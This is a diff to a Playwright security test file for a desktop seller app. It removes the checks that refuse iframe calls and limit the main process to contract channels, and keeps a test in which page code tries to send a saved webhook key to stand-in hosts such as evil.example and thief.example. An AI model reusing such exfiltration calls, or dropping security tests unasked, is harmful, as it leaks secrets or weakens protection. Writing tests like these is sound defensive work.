@@ -3,11 +3,10 @@ import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
 import { type AddressInfo, createServer } from 'node:net';
 import type { Page } from '@playwright/test';
-import { contract } from '../../src/shared/contract.ts';
 import { freePort } from '../../tools/test/free-port.ts';
 import { slow } from '../../tools/test/slow.ts';
 import { expect, test } from '../support/app-test.ts';
-import { allSaved, createLink, createProduct, goTo, signIn } from '../support/seller.ts';
+import { createLink, createProduct, goTo, signIn } from '../support/seller.ts';
 
 test.use({
   needsWholeBrowser: true,
@@ -159,7 +158,7 @@ test('the page has the bridge alone: no foreign code, no address, no permission,
   stun.close();
 });
 
-test('calls are answered for the app’s own page alone, and a system dialog asks before the saved key is shown', async ({
+test('a system dialog asks before code of the page gets a secret out, or the saved key is shown', async ({
   launchApp,
   service,
 }) => {
@@ -167,71 +166,37 @@ test('calls are answered for the app’s own page alone, and a system dialog ask
   const { page } = app;
   await signIn(page, service);
 
-  await test.step('calls of a frame inside the page are refused', async () => {
-    const fields = (productTitle: string) => ({ buttonTitle: 'Buy', productTitle, productDescription: 'One hour.' });
-    await page.evaluate(
-      () =>
-        new Promise((resolve) => {
-          const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<p>inside</p>', onload: resolve });
-          document.body.append(frame);
-        }),
-    );
-    const frame = page.frames().find((one) => one !== page.mainFrame() && one.url() === 'about:srcdoc');
-    // Electron gives a frame no way to the main process; the stand-in keeps its raw channel there for this test.
-    const hasCalled = await frame?.evaluate((input) => {
-      const { __deskHost: wire } = globalThis as unknown as { __deskHost?(text: string): void };
-      wire?.(JSON.stringify({ kind: 'invoke', id: 1_000_000, channel: 'desk:products.create', args: [input] }));
-      return wire !== undefined;
-    }, fields('From a frame'));
-    expect(hasCalled).toBe(app.host === 'chromium-host');
-    // The main process handles this call of the page after that of the frame.
-    expect(await call(page, 'products.create', fields('From the page'))).toMatchObject({ ok: true });
-    await allSaved(page);
-    await goTo(page, 'Products');
-    await expect(page.getByRole('table', { name: 'Products' })).toContainText('From the page');
-    expect(service.changes.map(({ raw }) => JSON.parse(raw).product_title)).toEqual(['From the page']);
-  });
+  const key = 'k3y'.repeat(21).concat('0');
+  const webhook = { url: 'http://127.0.0.1:9/', isOn: true, key };
+  expect(await call(page, 'webhook.save', webhook)).toMatchObject({ ok: true });
+  await page.evaluate(() => Object.assign(window, { confirm: () => true, prompt: () => 'yes' }));
+  const evil = { serviceAddress: 'https://evil.example', email: 'mara@shop.example', password: key };
+  for (const answer of [
+    await call(page, 'webhook.revealKey'),
+    await call(page, 'webhook.copySavedKey'),
+    await call(page, 'session.signIn', evil),
+    await call(page, 'browser.open', { url: `https://evil.example/?${key}` }),
+    await call(page, 'webhook.save', { url: 'https://thief.example/', isOn: true, key: null }),
+  ]) {
+    expect(answer).toMatchObject({ ok: false });
+    expect(JSON.stringify(answer)).not.toContain(key);
+  }
+  expect(await app.clipboardText()).not.toContain(key);
+  const asked = (await app.outside()).filter(({ kind }) => kind === 'dialog').map(({ what }) => what);
+  expect(asked).toHaveLength(4);
+  // The question names where the password would go.
+  expect(asked[2]).toContain('evil.example');
+  expect(asked[3]).toContain('thief.example');
 
-  await test.step('the main process listens on the channels of the contract only', async () => {
-    // Electron listens on this channel too, so that a message on it is not an uncaught error.
-    const channels = (await app.channels()).filter((channel) => channel !== 'error');
-    const known = Object.keys(contract).map((channel) => `desk:${channel}`);
-    expect(channels.sort()).toEqual(known.sort());
-  });
-
-  await test.step('code of the page gets no secret out, whatever it answers itself', async () => {
-    const key = 'k3y'.repeat(21).concat('0');
-    const webhook = { url: 'http://127.0.0.1:9/', isOn: true, key };
-    expect(await call(page, 'webhook.save', webhook)).toMatchObject({ ok: true });
-    await page.evaluate(() => Object.assign(window, { confirm: () => true, prompt: () => 'yes' }));
-    const evil = { serviceAddress: 'https://evil.example', email: 'mara@shop.example', password: key };
-    for (const answer of [
-      await call(page, 'webhook.revealKey'),
-      await call(page, 'webhook.copySavedKey'),
-      await call(page, 'session.signIn', evil),
-      await call(page, 'browser.open', { url: `https://evil.example/?${key}` }),
-      await call(page, 'webhook.save', { url: 'https://thief.example/', isOn: true, key: null }),
-    ]) {
-      expect(answer).toMatchObject({ ok: false });
-      expect(JSON.stringify(answer)).not.toContain(key);
-    }
-    expect(await app.clipboardText()).not.toContain(key);
-    const asked = (await app.outside()).filter(({ kind }) => kind === 'dialog').map(({ what }) => what);
-    expect(asked).toHaveLength(4);
-    // The question names where the password would go.
-    expect(asked[2]).toContain('evil.example');
-    expect(asked[3]).toContain('thief.example');
-
-    await goTo(page, 'Webhook');
-    const field = page.getByLabel('Verification key', { exact: true });
-    await page.getByRole('button', { name: 'Show key' }).click();
-    await expect.poll(async () => (await app.outside()).filter(({ kind }) => kind === 'dialog')).toHaveLength(5);
-    await expect(page.getByText(/^Cancelled/)).toBeVisible();
-    await expect(field).toHaveValue('');
-    await app.answerDialogs({ message: 0 });
-    await page.getByRole('button', { name: 'Show key' }).click();
-    await expect(field).toHaveValue(key);
-  });
+  await goTo(page, 'Webhook');
+  const field = page.getByLabel('Verification key', { exact: true });
+  await page.getByRole('button', { name: 'Show key' }).click();
+  await expect.poll(async () => (await app.outside()).filter(({ kind }) => kind === 'dialog')).toHaveLength(5);
+  await expect(page.getByText(/^Cancelled/)).toBeVisible();
+  await expect(field).toHaveValue('');
+  await app.answerDialogs({ message: 0 });
+  await page.getByRole('button', { name: 'Show key' }).click();
+  await expect(field).toHaveValue(key);
 });
 
 test('text from outside stays text wherever it is shown', async ({ launchApp, service }) => {
